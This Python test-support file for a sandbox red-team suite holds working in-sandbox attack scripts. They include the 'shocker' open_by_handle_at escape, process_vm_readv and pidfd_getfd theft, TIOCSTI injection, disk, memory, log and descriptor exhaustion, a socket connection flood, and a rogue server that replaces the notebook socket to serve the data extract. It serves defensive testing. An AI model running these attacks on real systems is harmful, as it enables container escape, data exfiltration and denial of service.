"""Support of tests/security/test_sandbox_redteam.py: attacks from inside a real workspace sandbox
on what the host shares with it (memory through its file systems in RAM, the disk through the
home, host services that read the home).

The registry, projects and secrets are those of the sandbox tests (``sandbox_support.world``)."""

from __future__ import annotations

import contextlib
import os
import stat
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

from sandbox_attempts_support import SIBLING, run_attempts

from pds_kernel import trees
from pds_kernel.project_end import home_quota_refusal
from pds_kernel.sandbox.exec import run_in_sandbox

MIB = 1024 * 1024

#: Fill one directory of the sandbox with one file, 4 MiB at a time, up to ``sys.argv[2]`` MiB;
#: prints how many MiB it could write and why it stopped.
FILL = r"""
import os, sys
directory, most = sys.argv[1], int(sys.argv[2])
written, reason = 0, "reached the target"
chunk = b"\xa5" * (4 << 20)
try:
    with open(os.path.join(directory, "fill"), "wb", buffering=0) as f:
        while written < most:
            f.write(chunk)
            written += 4
except OSError as exc:
    reason = exc.strerror
print("FILLED", written, reason, flush=True)
"""


def fill(world, directory: str, most_mb: int, capfd) -> tuple[int, str]:
    """Run :data:`FILL` in alice's sandbox of proj-a: (MiB written in ``directory``, why it stopped)."""
    run_in_sandbox(world.runtime, "alice", "proj-a", ["python", "-c", FILL, directory, str(most_mb)],
                   actor="red-team", timeout=180)
    out = capfd.readouterr().out
    line = next((line for line in out.splitlines() if line.startswith("FILLED ")), None)
    assert line is not None, out  # the attempt ran
    _, written, reason = line.split(" ", 2)
    return int(written), reason


#: Write ``sys.argv[1]`` MiB into a memfd, never mapped (what ``RLIMIT_AS`` does not see), 4 MiB at
#: a time, printing ``MEMFD <MiB>`` every 64 MiB and ``MEMFD <MiB> <why it stopped>`` at the end.
MEMFD = r"""
import os, sys
fd, most, written, reason = os.memfd_create("held"), int(sys.argv[1]), 0, "reached the target"
chunk = b"\xa5" * (4 << 20)
try:
    while written < most:
        os.write(fd, chunk)
        written += 4
        if written % 64 == 0:
            print("MEMFD", written, flush=True)
except OSError as exc:
    reason = exc.strerror
print("MEMFD", written, reason, flush=True)
"""


def set_memory_limit(world, mem_limit_mb: int) -> None:
    world.registry.upsert_project("admin", "proj-a", mem_limit_mb=mem_limit_mb)


def disk_use(root: Path) -> int:
    """Bytes the file system really allocates below ``root`` (what ``du`` counts), links not followed."""
    total = os.lstat(root).st_blocks * 512
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            total += os.lstat(os.path.join(dirpath, name)).st_blocks * 512
    return total


def quota_settings(world, quota_mb: int):
    """The world's settings with ``project_end.home_quota_mb`` = ``quota_mb``."""
    settings = world.runtime.settings
    return replace(settings, project_end=replace(settings.project_end, home_quota_mb=quota_mb))


def quota_refusal(world, home: Path, quota_mb: int) -> str | None:
    """What the hub's quota check says of ``home`` with ``project_end.home_quota_mb`` = ``quota_mb``."""
    return home_quota_refusal(quota_settings(world, quota_mb), home)


# ---- a FIFO in the home, declared as a model's data (the gate reads the declared files) ----------

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "ai"))  # its helper module

import model_check_support as models  # noqa: E402

#: Replace the declared data table of the home by a FIFO (made inside the sandbox, as a researcher).
MAKE_FIFO = r"""
import os
path = "/home/jovyan/results/model_data.parquet"
os.remove(path)
os.mkfifo(path)
print("FIFO made", flush=True)
"""
#: Seconds the gate may take to answer a submission whose declared file is not a regular file.
GATE_ANSWER_SECONDS = 30


def model_submission_over_a_fifo(runtime) -> tuple[Path, dict, bytes]:
    """alice's home in the model-check project holds the declared files of a model, its data table
    replaced by a FIFO from inside her sandbox: (the FIFO's host path, declaration, model bytes)."""
    settings = runtime.settings
    rows = models.people(models.PROJECT, 600, seed=7)
    models.publish_cohort(settings, models.PROJECT, rows)
    home = models.home(settings, models.PROJECT, "alice")
    declaration = models.write_rows(home, rows, rows.PERSON_ID[:300], rows.PERSON_ID[300:])
    run_in_sandbox(runtime, "alice", models.PROJECT, ["python", "-c", MAKE_FIFO], actor="red-team", timeout=60)
    fifo = home / declaration["data"]
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)  # the attempt planted it
    return fifo, declaration, models.reasonable_tree(rows)


def submit_in_a_thread(service, name: str, model: bytes, declaration: dict) -> tuple[threading.Thread, dict]:
    """Start the gate's submission in a thread: (the thread, where its view or error lands)."""
    outcome: dict = {}

    def run() -> None:
        try:
            outcome["view"] = models.submit(service, name, model, declaration)
        except Exception as exc:  # a refusal is an answer too
            outcome["error"] = exc

    thread = threading.Thread(target=run, name="gate-submission", daemon=True)
    thread.start()
    return thread, outcome


def release_fifo_reader(fifo: Path) -> None:
    """Unblock a reader waiting on ``fifo``: open it for writing and close it (end of file)."""
    with contextlib.suppress(OSError):
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))


# ---- kernel interfaces called directly (x86-64 system call numbers) ------------------------------

#: One attempt per name; prints ``ATTEMPT <name> ok`` when the kernel did it, else its errno.
SYSCALLS = r"""
import ctypes, os, signal, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
HOME = os.environ["HOME"].encode()  # /home/jovyan in the sandbox
NR = {"name_to_handle_at": 303, "open_by_handle_at": 304, "process_vm_readv": 310, "open_tree": 428,
      "fsopen": 430, "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438, "unshare": 272}

def call(name, *args):
    result = libc.syscall(ctypes.c_long(NR[name]), *args)
    return "ok" if result >= 0 else "errno %d" % ctypes.get_errno()

""" + SIBLING + r"""
def shocker():
    # the classic container escape: a forged handle of inode 2 (the root directory) of the file
    # system that holds the home, opened through any directory of that file system
    handle = struct.pack("IiII", 8, 1, 2, 0)  # handle_bytes, FILEID_INO32_GEN, inode 2, generation 0
    mount_fd = os.open(HOME, os.O_RDONLY | os.O_DIRECTORY)
    return call("open_by_handle_at", mount_fd, ctypes.c_char_p(handle), os.O_RDONLY | os.O_DIRECTORY)

def name_to_handle():
    buf = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
    mount_id = ctypes.c_int()
    return call("name_to_handle_at", -100, HOME, buf, ctypes.byref(mount_id), 0)

def vm_read():
    pid = sibling()
    local = ctypes.create_string_buffer(64)
    iov_local = struct.pack("QQ", ctypes.addressof(local), 64)
    iov_remote = struct.pack("QQ", id(sys), 64)  # an address mapped in the forked child too
    try:
        return call("process_vm_readv", pid, ctypes.c_char_p(iov_local), 1, ctypes.c_char_p(iov_remote), 1, 0)
    finally:
        os.kill(pid, signal.SIGKILL)

def steal_fd():
    pid = sibling()
    try:
        pidfd = libc.syscall(ctypes.c_long(NR["pidfd_open"]), pid, 0)
        if pidfd < 0:
            return "pidfd_open errno %d" % ctypes.get_errno()
        return call("pidfd_getfd", pidfd, 1, 0)
    finally:
        os.kill(pid, signal.SIGKILL)

def clone3_newuser():
    args = struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0)  # CLONE_NEWUSER, exit signal SIGCHLD
    result = libc.syscall(ctypes.c_long(NR["clone3"]), ctypes.c_char_p(args), len(args))
    if result == 0:
        os._exit(0)  # the child, in a new user namespace
    return "ok" if result > 0 else "errno %d" % ctypes.get_errno()

def tiocsti():
    import fcntl, pty, termios
    master, slave = pty.openpty()
    try:
        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
        return "ok"
    except OSError as exc:
        return "errno %d" % exc.errno

ATTEMPTS = {
    "open_by_handle_at": shocker,
    "name_to_handle_at": name_to_handle,
    "fsopen": lambda: call("fsopen", b"tmpfs", 0),
    "open_tree": lambda: call("open_tree", -100, HOME, 1 | 0x80000),  # OPEN_TREE_CLONE|CLOEXEC
    "unshare_mount_namespace": lambda: call("unshare", 0x00020000),
    "clone3_new_user_namespace": clone3_newuser,
    "process_vm_readv": vm_read,
    "pidfd_getfd": steal_fd,
    "tiocsti": tiocsti,
}
name = sys.argv[1]
print("ATTEMPT", name, ATTEMPTS[name](), flush=True)
"""
SYSCALL_ATTEMPTS = ("open_by_handle_at", "name_to_handle_at", "fsopen", "open_tree", "unshare_mount_namespace",
                    "clone3_new_user_namespace", "process_vm_readv", "pidfd_getfd", "tiocsti")


def syscall_attempt(world, name: str, capfd) -> str:
    """Run one attempt of :data:`SYSCALLS` in alice's sandbox: ``ok`` or the error it got."""
    return run_attempts(world, SYSCALLS, [name], capfd)[name]


# ---- the disk outside the home: a running workspace's writes that the home quota must count ------

#: From a kernel: write QUOTA + 4 MB into every descriptor the kernel holds for writing that leads
#: outside the home to the notebook server's log on the host: the file itself, inherited through
#: the kernel's output (before red team 20A), or the pipe the server now copies into it (a pipe
#: whose reading end no descriptor of the kernel holds).
LOG_FILL = """
import fcntl, os, stat
chunk = b"x" * (1 << 20)
targets, seen, read_pipes, entries = [], set(), set(), []
for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    try:
        info, flags, where = os.fstat(fd), fcntl.fcntl(fd, fcntl.F_GETFL), os.readlink(f"/proc/self/fd/{{fd}}")
    except OSError:
        continue
    entries.append((fd, info, flags, where))
    if stat.S_ISFIFO(info.st_mode) and flags & os.O_ACCMODE == os.O_RDONLY:
        read_pipes.add(info.st_ino)
for fd, info, flags, where in entries:
    writable = flags & (os.O_WRONLY | os.O_RDWR)
    out_file = stat.S_ISREG(info.st_mode) and not where.startswith("/home/jovyan")
    out_pipe = stat.S_ISFIFO(info.st_mode) and info.st_ino not in read_pipes
    if writable and (out_file or out_pipe) and (info.st_dev, info.st_ino) not in seen:  # stdout and stderr: one
        seen.add((info.st_dev, info.st_ino))
        targets.append(fd)
for fd in targets:
    for _ in range({mb}):
        os.write(fd, chunk)
print("written to", len(targets), "files")
with open("/home/jovyan/beside-the-log.bin", "wb") as out:
    out.write(os.urandom({home_mb} << 20))
"""
#: From a kernel: a file of QUOTA + 4 MB in the home, unlinked while the kernel keeps it open.
#: Two files of ``mb`` MiB each (under the sandbox's per-file limit, the quota), both unlinked and
#: held open.
UNLINKED_FILL = """
import os
held = []
for part in range(2):
    path = os.path.expanduser(f"~/hidden-{{part}}.bin")
    out = open(path, "wb")
    for _ in range({mb}):
        out.write(os.urandom(1 << 20))
    out.flush()
    os.unlink(path)
    held.append(out)
print("written and unlinked")
"""


# ---- a home nested deeper than Python's recursion limit -----------------------------------------

#: From a workspace: 1,200 nested directories in the home (relative paths: no path is ever long),
#: a data file at the bottom.
DEEP_HOME = """
import os
os.chdir("/home/jovyan")
for _ in range(1200):
    os.mkdir("d")
    os.chdir("d")
open("rows.csv", "w").write("person,amount\\n1,2\\n")
print("nested")
"""


#: From a workspace: 20 nested directories of 250-character names in the home (each made relative
#: to the last: the host's path to the bottom, over 5,000 characters, is longer than any system
#: call takes), a data file at the bottom (red team 7).
LONG_HOME = """
import os
os.chdir("/home/jovyan")
for _ in range(20):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
open("rows.csv", "w").write("person,amount\\n1,2\\n")
print("nested")
"""


@contextlib.contextmanager
def nested_home(world, capfd, user: str = "alice", project: str = "proj-a", script: str = DEEP_HOME) -> Iterator[Path]:
    """Run ``script`` (:data:`DEEP_HOME`, or :data:`LONG_HOME`: both nest under a folder whose name
    starts with ``d``) in the sandbox of (user, project); yields the home's host path, and removes
    the nest afterwards (pytest's own clean-up of old temporary directories, Python 3.11's
    recursive ``shutil.rmtree``, would fail on it in a later session)."""
    home = world.runtime.settings.paths.homes / project / user
    try:
        run_in_sandbox(world.runtime, user, project, ["python", "-c", script], actor="red-team", timeout=120)
        assert "nested" in capfd.readouterr().out
        yield home
    finally:
        for top in (home / "d", home / ("d" * 250)):
            if top.is_dir():
                trees.remove(top)


def purge_now(world, project: str):
    """Close ``project`` and purge it with two administrators (``admin`` and ``ada``), as if its
    retention period were over; the second purge's result."""
    from datetime import date, timedelta

    from pds_kernel.project_end import ProjectEnd

    registry = world.registry
    registry.upsert_user("admin", "admin", is_admin=True)
    registry.upsert_user("admin", "ada", is_admin=True)
    registry.close_project("admin", project, "permit ended")
    later = date.today() + timedelta(days=world.runtime.settings.project_end.retention_days + 1)
    end = ProjectEnd(world.runtime, registry)
    assert not end.purge("admin", project, confirm=True, today=later).done  # the first approval
    return end.purge("ada", project, confirm=True, today=later)


# ---- the hub's descriptors through the sockets mounted in the sandbox ------------------------------

#: From a kernel: open {n} connections to each socket of /run/pds but the server's own, and keep
#: them (a global of the kernel) until the kernel is deleted; a full listen queue is waited for.
CONNECTION_FLOOD = """
import os, socket, time

def connect(path):
    for _ in range(200):
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.settimeout(5)
        try:
            client.connect(path)
            return client
        except BlockingIOError:  # the listen queue is full: the server accepts at its pace
            client.close()
            time.sleep(0.02)
    raise TimeoutError(path + " accepts nothing any more")

held, counts = [], {{}}
for name in sorted(os.listdir("/run/pds")):
    if name.endswith(".sock") and name != "server.sock":
        try:
            for _ in range({n}):
                held.append(connect("/run/pds/" + name))
                counts[name] = counts.get(name, 0) + 1
        except OSError as exc:
            counts[name] = f"{{counts.get(name, 0)}} then {{exc}}"
print("holding", len(held), counts)
"""


def open_descriptors(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


# ---- the notebook server's socket, replaced by a kernel ------------------------------------------

#: From a kernel (kept alive): remove the notebook server's socket and listen in its place with an
#: HTTP server that answers every request with the extract's bytes (no lockdown, no budget).
ROGUE_SERVER = """
import os, socketserver, threading

def extract():
    out = b""
    for root, _dirs, files in os.walk("/data"):
        for name in sorted(files):
            out += open(os.path.join(root, name), "rb").read()
    return out

class Rogue(socketserver.StreamRequestHandler):
    def handle(self):  # one raw HTTP/1.1 answer per request head, whatever was asked
        while self.rfile.readline() not in (b"\\r\\n", b"\\n", b""):
            pass
        body = b"ROGUE-SERVER " + extract()
        self.wfile.write(b"HTTP/1.1 200 OK\\r\\nConnection: close\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)

class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True

os.unlink("/run/pds/server.sock")
rogue = Server("/run/pds/server.sock", Rogue)
threading.Thread(target=rogue.serve_forever, daemon=True).start()
print("listening in its place")
"""
#: What the rogue server's answers start with.
ROGUE_MARK = "ROGUE-SERVER"
#: From a kernel: four processes holding 19,000 descriptors each (``dup`` of one file: cheap for
#: the sandbox, 76,000 entries for the hub's watcher to read at every pass).
DESCRIPTOR_PILE = """
import subprocess, sys
HOLD = "import os, time; fd = os.open('/dev/null', os.O_RDONLY); held = [os.dup(fd) for _ in range(19000)]; print('ok', flush=True); time.sleep(300)"
piles = [subprocess.Popen([sys.executable, "-c", HOLD], stdout=subprocess.PIPE) for _ in range(4)]
print("holding", sum(p.stdout.readline() == b"ok\\n" for p in piles) * 19000)
"""
